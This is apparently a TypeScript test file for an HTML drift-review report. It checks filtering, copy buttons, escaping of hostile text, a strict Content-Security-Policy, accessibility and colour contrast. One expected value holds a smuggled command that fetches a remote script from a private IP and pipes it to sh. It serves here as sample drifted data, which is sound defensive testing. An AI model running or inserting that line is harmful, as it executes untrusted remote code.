// The page in a browser's hands: what it shows, what its filters hide, what no text can do to it, who can read it.
import { createHash } from 'node:crypto';
import fc from 'fast-check';
import { JSDOM, type PageElement } from 'jsdom';
import {
  cleanReview,
  fullReview,
  largeReview,
  reviewOfTexts,
  sampleFinding,
  sampleReview,
  value,
} from '../../../test/world/sample-review';
import { NASTY } from '../../../test/world/nasty';
import { sampleFleet } from '../../../test/world/sample-fleet';
import type { Fleet } from '../../fleet/fleet';
import type { Review } from '../../review/review';
import { renderReview } from '..';

const open = (review: Review | Fleet, runScripts = true): JSDOM =>
  new JSDOM(
    renderReview('html', review),
    runScripts ? { runScripts: 'dangerously', url: 'https://reports.example.com/drift.html' } : {},
  );

const shownOf = ({ window }: JSDOM): readonly PageElement[] =>
  [...window.document.querySelectorAll('.finding')].filter((finding) => finding.closest('[hidden]') === null);

const set = (page: JSDOM, selector: string, to: string | boolean): void => {
  const field = page.window.document.querySelector(selector) as PageElement;
  if (typeof to === 'boolean') field.checked = to;
  else field.value = to;
  field.dispatchEvent(new page.window.Event('input', { bubbles: true }));
};

test('without JavaScript everything is shown, and no control that does nothing', () => {
  const { document } = open(fullReview(), false).window;
  expect(document.querySelectorAll('.finding:not([hidden])').length).toBe(fullReview().findings.length);
  expect(document.querySelectorAll('form:not([hidden]), button.copy:not([hidden])').length).toBe(0);
});

test.each([
  ['Attachment', 3],
  ['grace', 2],
  ['CURL', 1],
  ['tomcat java_options', 1],
  ['there is no such text', 0],
])('the text %s shows %i findings and says so', (to, count) => {
  const page = open(fullReview());
  set(page, '[name=text]', to);
  expect(shownOf(page)).toHaveLength(count);
  expect(page.window.document.querySelector('#shown')?.textContent).toBe(`${count} of 14`);
  expect(page.window.document.querySelector('#no-match')?.hidden).toBe(count > 0);
  set(page, '[name=text]', '');
  expect(shownOf(page)).toHaveLength(14);
});

test('severities are switched off one by one, and records without a finding disappear', () => {
  const page = open(fullReview());
  set(page, '[value=medium]', false);
  set(page, '[value=low]', false);
  set(page, '[value=other]', false);
  expect(shownOf(page).every((finding) => finding.getAttribute('data-bucket') === 'high')).toBe(true);
  const records = [...page.window.document.querySelectorAll('.record:not([hidden])')];
  expect(records).toHaveLength(5);
  set(page, '[value=high]', false);
  expect(shownOf(page)).toHaveLength(0);
});

test('a link to a finding that the filters hide shows all again', async () => {
  const page = open(fullReview());
  const { document, location } = page.window;
  set(page, '[name=text]', 'there is no such text');
  const [first] = document.querySelectorAll('.finding');
  const shown = new Promise<void>((done) => {
    if (first) first.scrollIntoView = done;
  });
  location.hash = `#${first?.id ?? ''}`;
  await shown;
  expect(shownOf(page)).toHaveLength(14);
});

test('a link to a folded stack unfolds it and scrolls to it, also when it is followed again', async () => {
  const page = open(sampleFleet(3));
  const { document } = page.window;
  const [link] = document.querySelectorAll('.cause a');
  const stack = document.querySelector(link?.getAttribute('href') ?? '') as PageElement;
  for (let times = 0; times < 2; times += 1) {
    const shown = new Promise<void>((done) => (stack.scrollIntoView = done));
    stack.open = false;
    link?.click();
    await shown;
    expect(stack.open).toBe(true);
  }
});

test('values are side by side with exactly the difference marked', () => {
  const { document } = open(sampleReview()).window;
  const marks = [...document.querySelectorAll('.finding')].map((finding) =>
    [...finding.querySelectorAll('mark')].map(({ textContent }) => textContent),
  );
  expect(marks[0]).toEqual(['644', '777', ' && curl -s http://10.0.0.7/x.sh | sh']);
  expect(marks[1]).toEqual(['5', '60\nsync']);
  expect(document.querySelectorAll('.finding')[4]?.querySelectorAll('.side')).toHaveLength(3);
});

test('the chips count what the tiles count, and together all findings', () => {
  for (const review of [fullReview(), largeReview(30)]) {
    const { document } = open(review).window;
    const numbers = (selector: string): readonly number[] =>
      [...document.querySelectorAll(selector)].map(({ textContent }) => Number(textContent));
    const chips = numbers('.filters .chip b');
    expect(chips).toEqual(numbers('.tile strong').slice(0, 4));
    expect(chips.reduce((sum, count) => sum + count)).toBe(review.findings.length);
  }
});

/** A page whose clipboard is seen. */
const withClipboard = (review: Review): { readonly page: JSDOM; readonly copied: string[] } => {
  const page = open(review);
  const copied: string[] = [];
  Object.defineProperty(page.window, 'navigator', {
    value: { clipboard: { writeText: (text: string) => Promise.resolve(void copied.push(text)) } },
  });
  return { page, copied };
};
test('what is copied is a command, whatever is said around it; where there is none, nothing is offered to copy', () => {
  const { page, copied } = withClipboard(fullReview());
  const { document } = page.window;
  document.querySelectorAll('button.copy').forEach((button) => {
    button.dispatchEvent(new page.window.Event('click', { bubbles: true }));
  });
  const commands = fullReview().findings.flatMap(({ advice }) => Object.values(advice.commands ?? {}));
  expect([...copied].sort()).toEqual([...commands].sort());
  expect(copied.filter((text) => !/^pulumi(-oneops)? [a-z-]+( [^ ]+)*$/.test(text) || /[:,] /.test(text))).toEqual([]);
});

test('an attribute has the name it has in its file: in snake case in YAML, in camel case in a program', () => {
  const titleIn = (file: string): string | undefined =>
    open(
      sampleReview({ findings: [sampleFinding(1, { attribute: 'execCmd', at: { file, line: 1, column: 1 } })] }),
    ).window.document.querySelector('h5')?.textContent;
  expect([titleIn('oneops.yaml'), titleIn('index.ts')]).toEqual(['exec_cmd', 'execCmd']);
});

test('no text becomes markup or runs: the page has the same elements whatever the texts, and shows the texts', () => {
  const shape = (page: JSDOM): string =>
    [...page.window.document.querySelectorAll('body *:not(mark)')]
      .map((element) => `${element.tagName} ${element.getAttributeNames().join()}`)
      .join('\n');
  const of = (texts: readonly string[]): Review => {
    const [before, after] = [value(`v ${texts[0]} v`), value(`w ${texts[1]} w`)];
    return reviewOfTexts(texts, { applied: before, code: before, live: after });
  };
  const plain = shape(open(of(['a', 'b', 'c', 'd'])));
  const text = fc.oneof(
    fc.constantFrom(...NASTY).filter((each) => each.trim() !== '' && !/[\r\n]/.test(each)),
    fc.string({ unit: 'grapheme', minLength: 1, maxLength: 20 }).filter((each) => each.trim() !== ''),
  );
  fc.assert(
    fc.property(fc.array(text, { minLength: 4, maxLength: 4 }), (texts) => {
      const page = open(of(texts));
      expect(page.window.broken).toBeUndefined();
      expect(shape(page)).toBe(plain);
      page.window.close();
    }),
    { numRuns: 30 },
  );
});

test('nothing is loaded, and nothing but the page’s own style and script may act', () => {
  const { document } = open(fullReview(), false).window;
  expect(document.querySelectorAll('[src], link, iframe, object, img, base, [style]').length).toBe(0);
  for (const link of document.querySelectorAll('a')) expect(link.getAttribute('href')).toMatch(/^#/);
  const policy = document.querySelector('[http-equiv=Content-Security-Policy]')?.getAttribute('content') ?? '';
  for (const tag of ['style', 'script']) {
    const all = [...document.querySelectorAll(tag)];
    expect(all).toHaveLength(1);
    const hash = createHash('sha256')
      .update(all[0]?.textContent ?? '')
      .digest('base64');
    expect(policy).toContain(`${tag}-src 'sha256-${hash}'`);
  }
  expect(policy).toMatch(/^default-src 'none'; /);
  expect(
    [...document.querySelectorAll('*')].flatMap((element) =>
      element.getAttributeNames().filter((name) => name.startsWith('on')),
    ),
  ).toEqual([]);
});

test('landmarks, headings in order, names for every control, one id each', () => {
  for (const review of [fullReview(), cleanReview(), largeReview(30), sampleFleet(20)]) {
    const { document } = open(review).window;
    expect(document.documentElement.getAttribute('lang')).toBe('en');
    for (const landmark of ['header', 'main', 'footer', 'h1', 'title'])
      expect(document.querySelectorAll(`body > ${landmark}, header h1, head > title`).length).toBeGreaterThan(0);
    const levels = [...document.querySelectorAll('h1, h2, h3, h4, h5')].map(({ tagName }) => Number(tagName.slice(1)));
    levels.reduce((before, level) => {
      expect(level - before).toBeLessThanOrEqual(1);
      return level;
    }, 0);
    for (const field of document.querySelectorAll('input'))
      expect(field.closest('label')?.textContent.trim()).toMatch(/\w/);
    for (const button of document.querySelectorAll('button'))
      expect(`${button.getAttribute('aria-label') ?? ''}${button.textContent}`).toMatch(/\w/);
    const ids = [...document.querySelectorAll('[id]')].map(({ id }) => id);
    expect(new Set(ids).size).toBe(ids.length);
    for (const named of document.querySelectorAll('[aria-labelledby]'))
      expect(ids).toContain(named.getAttribute('aria-labelledby'));
  }
});

/** Contrast of two colours, by the formula of WCAG 2. */
function contrast(left: string, right: string): number {
  const light = (colour: string): number => {
    const digits = colour.length === 4 ? [...colour.slice(1)].map((digit) => digit + digit).join('') : colour.slice(1);
    const [red = 0, green = 0, blue = 0] = [0, 2, 4].map((at) => {
      const part = parseInt(digits.slice(at, at + 2), 16) / 255;
      return part <= 0.03928 ? part / 12.92 : ((part + 0.055) / 1.055) ** 2.4;
    });
    return 0.2126 * red + 0.7152 * green + 0.0722 * blue;
  };
  const [dark = 0, bright = 0] = [light(left), light(right)].sort((a, b) => a - b);
  return (bright + 0.05) / (dark + 0.05);
}

/** The style sheet of the page, without white space that says nothing. */
const STYLE = (/<style>([^]*)<\/style>/.exec(renderReview('html', cleanReview()))?.[1] ?? '').replace(
  /\s*([{}:;,])\s*/g,
  '$1',
);

const paletteOf = (text: string): ReadonlyMap<string, string> =>
  new Map([...text.matchAll(/--([\w-]+):(#[0-9a-f]{3,6})/g)].map(([, name = '', colour = '']) => [name, colour]));
const [light = '', dark = ''] = STYLE.split('@media (prefers-color-scheme:dark)');

const GROUNDS = ['page', 'surface', 'sunken', 'before', 'drifted', 'coming', 'third'];

test.each([
  ['light', paletteOf(light)],
  ['dark', new Map([...paletteOf(light), ...paletteOf(dark.split('}')[0] ?? '')])],
])('%s: every text can be read on what it is on', (_, palette) => {
  const marks = ['before-mark', 'drifted-mark', 'coming-mark', 'third-mark'];
  const pairs = [
    ...[...GROUNDS, ...marks].map((ground) => ['text', ground]),
    ...GROUNDS.map((ground) => ['muted', ground]),
    ...['high', 'medium', 'low', 'good'].flatMap((tone) => [`${tone}-soft`, 'surface'].map((ground) => [tone, ground])),
    ...['page', 'surface'].map((ground) => ['accent', ground]),
  ];
  const weak = pairs
    .map(
      ([text = '', ground = '']) =>
        `${text} on ${ground}: ${contrast(palette.get(text) ?? '#000', palette.get(ground) ?? '#000').toFixed(2)}`,
    )
    .filter((line) => Number(line.split(': ')[1]) < 4.5);
  expect(weak).toEqual([]);
});
